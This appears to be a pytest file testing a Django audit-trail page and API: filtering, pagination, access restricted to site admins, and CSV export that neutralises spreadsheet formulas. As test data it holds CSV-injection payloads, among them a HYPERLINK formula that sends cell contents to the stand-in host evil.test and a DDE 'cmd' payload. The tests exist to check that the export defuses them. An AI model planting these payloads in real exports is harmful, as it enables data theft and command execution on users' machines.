"""The audit trail page (/governance/audit/) and API (/api/v1/audit-events/): filters by actor,
object, verb and time, pagination, the CSV export (filtered rows only, spreadsheet formulas
neutralised), and refusal of everyone but site admins."""

from __future__ import annotations

import csv
import html
import io
import re
import time

import pytest
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from core.audit import audit_record
from core.models import AuditEvent
from governance.services import dataasset_create, dataasset_update
from teams.services import team_create
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

PAGE_SIZE = 50  # governance.constants.AUDIT_PAGE_SIZE and the API's PAGE_SIZE
CSV_HEADER = [
    "id",
    "created_at",
    "actor",
    "verb",
    "target_type",
    "target_id",
    "target",
    "before",
    "after",
    "correlation_id",
    "hash",
]
# Names a spreadsheet would run as formulas.
FORMULA_TEAM = '=HYPERLINK("http://evil.test/?x="&A1,"click me")'
FORMULA_ASSETS = {
    "plus-sum": "+SUM(1,2)",
    "minus-calc": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(A1:A9)",
}
FORMULA_ACTOR = "@mallory"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def fast_password_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def trail(org):
    """build_org() plus events written by the real services on objects (and by an actor) whose
    names start with formula characters."""
    admin = org.admin
    team_create(actor=admin, name=FORMULA_TEAM, slug="evil-link", parent=org.root)
    for slug, name in FORMULA_ASSETS.items():
        dataasset_create(actor=admin, name=name, slug=slug, kind="queries", owning_team=org.alpha)
    mallory = UserFactory(username=FORMULA_ACTOR, is_superuser=True)
    dataasset_update(actor=mallory, asset=org.asset, description="touched by mallory")
    org.users[FORMULA_ACTOR] = mallory
    return org


def admin_ui(org) -> Client:
    client = Client()
    client.force_login(org.admin)
    return client


def admin_api(org) -> APIClient:
    client = APIClient()
    client.force_authenticate(org.admin)
    return client


def page_ids(response) -> list[int]:
    assert response.status_code == 200, response.content[:1000]
    return [int(i) for i in re.findall(r"<tr><td>(\d+)</td>", response.content.decode())]


def api_ids(response) -> list[int]:
    assert response.status_code == 200, response.content[:1000]
    return [e["id"] for e in response.json()["results"]]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="steward-audit.csv"'
    text = b"".join(response.streaming_content).decode()
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == CSV_HEADER
    return rows


def newest_first(events) -> list[int]:
    return sorted((e.id for e in events), reverse=True)


def expected(**filters) -> list[int]:
    """The ids the filters must select, computed in Python from every event, newest first."""
    events = list(AuditEvent.objects.all())
    if "actor" in filters:
        events = [e for e in events if e.actor_repr.lower() == filters["actor"].lower()]
    if "verb" in filters:
        events = [e for e in events if e.verb.startswith(filters["verb"])]
    if "target" in filters:
        text = filters["target"]
        events = [e for e in events if text.lower() in e.target_repr.lower() or e.target_id == text]
    if "since" in filters:
        events = [e for e in events if e.created_at >= filters["since"]]
    if "until" in filters:
        events = [e for e in events if e.created_at < filters["until"]]
    return newest_first(events)


# --- filters ---------------------------------------------------------------------------------


FILTERS = {
    "actor": {"actor": FORMULA_ACTOR},
    "actor, any case": {"actor": "ADMIN"},
    "verb prefix": {"verb": "dataasset."},
    "verb exact": {"verb": "membership.granted"},
    "object by name": {"target": "sum("},
    "object by name and verb": {"target": "alpha", "verb": "team."},
    "actor and verb": {"actor": "admin", "verb": "dataasset.created"},
    "nothing matches": {"verb": "no.such.verb"},
}


@pytest.mark.parametrize("filters", FILTERS.values(), ids=FILTERS.keys())
def test_filters_select_the_matching_events(trail, filters):
    want = expected(**filters)
    assert len(want) < PAGE_SIZE
    if filters != {"verb": "no.such.verb"}:
        assert want, "the filter should match something"
    ui = admin_ui(trail).get("/governance/audit/", filters)
    assert page_ids(ui) == want
    if not want:
        assert "No audit events match." in ui.content.decode()
    api = admin_api(trail).get("/api/v1/audit-events/", filters)
    assert api_ids(api) == want
    assert api.json()["count"] == len(want)


def test_filter_by_object_id(trail):
    team = trail.alpha
    by_id = {"target": str(team.pk)}
    want = expected(**by_id)
    assert want and any(AuditEvent.objects.get(pk=i).target_repr == "Alpha" for i in want)
    assert page_ids(admin_ui(trail).get("/governance/audit/", by_id)) == want
    assert api_ids(admin_api(trail).get("/api/v1/audit-events/", by_id)) == want


def test_filter_by_time(trail):
    earlier = newest_first(AuditEvent.objects.all())
    time.sleep(0.01)
    boundary = timezone.now()
    time.sleep(0.01)
    for i in range(3):
        audit_record(actor=trail.admin, verb="test.later", target=trail.alpha, after={"i": i})
    later = newest_first(AuditEvent.objects.filter(verb="test.later"))
    iso = boundary.isoformat()  # with its UTC offset
    assert later and earlier
    for params, want in [
        ({"since": iso}, later),
        ({"until": iso}, earlier[:PAGE_SIZE]),
        ({"since": iso, "verb": "test."}, later),
        ({"until": iso, "verb": "test."}, []),
    ]:
        assert page_ids(admin_ui(trail).get("/governance/audit/", params)) == want, params
        assert api_ids(admin_api(trail).get("/api/v1/audit-events/", params)) == want, params


def test_the_ui_accepts_what_a_datetime_local_input_sends(trail):
    everything = newest_first(AuditEvent.objects.all())[:PAGE_SIZE]
    ui = admin_ui(trail)
    assert page_ids(ui.get("/governance/audit/", {"since": "2000-01-01T00:00"})) == everything
    assert page_ids(ui.get("/governance/audit/", {"until": "2000-01-01T00:00"})) == []
    assert page_ids(ui.get("/governance/audit/", {"until": "2999-01-01T00:00"})) == everything


def test_an_invalid_time_is_reported(trail):
    ui = admin_ui(trail).get("/governance/audit/", {"since": "yesterday-ish"})
    assert ui.status_code == 400  # the same answer as the API; nothing listed
    assert 'role="alert"' in ui.content.decode()
    api = admin_api(trail).get("/api/v1/audit-events/", {"since": "yesterday-ish"})
    assert api.status_code == 400
    assert "detail" in api.json()


def test_the_form_keeps_the_filters(trail):
    body = admin_ui(trail).get("/governance/audit/", {"actor": "admin", "verb": "team."}).content
    body = body.decode()
    assert 'name="actor" value="admin"' in body
    assert 'name="verb" value="team."' in body


# --- pagination ------------------------------------------------------------------------------


def test_pages_keep_the_filters(trail):
    for i in range(PAGE_SIZE + 12):
        audit_record(actor=trail.admin, verb="test.bulk", target=trail.alpha, after={"i": i})
    want = expected(verb="test.")
    assert len(want) == PAGE_SIZE + 12
    ui = admin_ui(trail)
    first = ui.get("/governance/audit/", {"verb": "test."})
    assert page_ids(first) == want[:PAGE_SIZE]
    body = first.content.decode()
    assert "Page 1 of 2<" in body
    older = re.search(r'<a href="\?([^"]*)">Older', body)
    assert older, "no link to the next page"
    second = ui.get("/governance/audit/?" + html.unescape(older.group(1)))
    assert page_ids(second) == want[PAGE_SIZE:]
    assert "Page 2 of 2<" in second.content.decode()
    everything = newest_first(AuditEvent.objects.all())
    unfiltered = ui.get("/governance/audit/", {"page": 2})
    assert page_ids(unfiltered) == everything[PAGE_SIZE : 2 * PAGE_SIZE]

    api = admin_api(trail)
    one = api.get("/api/v1/audit-events/", {"verb": "test."}).json()
    assert one["count"] == len(want) and [e["id"] for e in one["results"]] == want[:PAGE_SIZE]
    assert "verb=test." in one["next"] and "page=2" in one["next"]
    two = api.get(one["next"]).json()
    assert [e["id"] for e in two["results"]] == want[PAGE_SIZE:]
    assert two["next"] is None


# --- CSV export ------------------------------------------------------------------------------


def test_csv_neutralises_spreadsheet_formulas(trail):
    rows = csv_rows(admin_ui(trail).get("/governance/audit/", {"format": "csv"}))
    assert len(rows) == AuditEvent.objects.count()
    targets = {row[6] for row in rows}
    assert "'" + FORMULA_TEAM in targets
    for name in FORMULA_ASSETS.values():
        assert "'" + name in targets
    assert FORMULA_TEAM not in targets
    mallory = [row for row in rows if row[2] == "'" + FORMULA_ACTOR]
    assert [(row[3], row[6]) for row in mallory] == [("dataasset.updated", "Catalog")]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), f"formula cell {cell!r} in {row}"
    # Everything else is exported as it is stored.
    newest = AuditEvent.objects.order_by("-id").first()
    first = rows[0]
    assert first[0] == str(newest.id) and first[3] == newest.verb and first[10] == newest.hash
    assert first[1] == newest.created_at.isoformat()


def test_csv_contains_only_the_filtered_rows(trail):
    ui = admin_ui(trail)
    for filters in [{"verb": "dataasset."}, {"actor": FORMULA_ACTOR}, {"target": "sum("}]:
        rows = csv_rows(ui.get("/governance/audit/", {**filters, "format": "csv"}))
        assert [int(row[0]) for row in rows] == expected(**filters), filters
    page = ui.get("/governance/audit/", {"verb": "dataasset.", "page": 1}).content.decode()
    assert 'href="?verb=dataasset.&format=csv"' in page  # the export link keeps the filter


def test_csv_with_an_invalid_filter_does_not_export_everything(trail):
    """An invalid `since` must not silently drop the other filters from the export."""
    response = admin_ui(trail).get(
        "/governance/audit/", {"verb": "dataasset.", "since": "not-a-date", "format": "csv"}
    )
    if response.status_code == 400:
        return
    rows = csv_rows(response)
    verbs = {row[3] for row in rows}
    assert all(v.startswith("dataasset.") for v in verbs), (
        f"the export ignored verb=dataasset. and returned {len(rows)} rows with verbs {verbs}"
    )


# --- who may read it -------------------------------------------------------------------------


@pytest.mark.parametrize("username", ["alpha.lead", "acme.lead", "alpha.steward", "outsider"])
def test_non_admins_are_refused(trail, username):
    user = trail.user(username)
    ui = Client()
    ui.force_login(user)
    for params in [{}, {"format": "csv"}, {"verb": "team."}]:
        response = ui.get("/governance/audit/", params)
        assert response.status_code == 403
        assert "The audit trail is for site admins." in response.content.decode()
        assert not response.get("Content-Type", "").startswith("text/csv")
    api = APIClient()
    api.force_authenticate(user)
    assert api.get("/api/v1/audit-events/").status_code == 403
    event = AuditEvent.objects.order_by("id").first()
    assert api.get(f"/api/v1/audit-events/{event.pk}/").status_code == 403


def test_staff_without_superuser_is_refused_like_in_the_ui(trail):
    """Site admins are superusers; a staff flag alone opens neither the page nor the API."""
    staff = UserFactory(username="staff.only", is_staff=True, is_superuser=False)
    ui = Client()
    ui.force_login(staff)
    assert ui.get("/governance/audit/").status_code == 403
    api = APIClient()
    api.force_authenticate(staff)
    assert api.get("/api/v1/audit-events/").status_code == 403


def test_anonymous_is_sent_to_log_in(trail):
    for params in [{}, {"format": "csv"}]:
        response = Client().get("/governance/audit/", params)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/?next=/governance/audit/")
    assert APIClient().get("/api/v1/audit-events/").status_code == 401


def test_a_site_admin_reads_one_event(trail):
    event = AuditEvent.objects.filter(actor_repr=FORMULA_ACTOR).get()
    body = admin_api(trail).get(f"/api/v1/audit-events/{event.pk}/").json()
    assert body["verb"] == "dataasset.updated" and body["actor_repr"] == FORMULA_ACTOR
    assert body["target_type"] == "governance.dataasset" and body["hash"] == event.hash
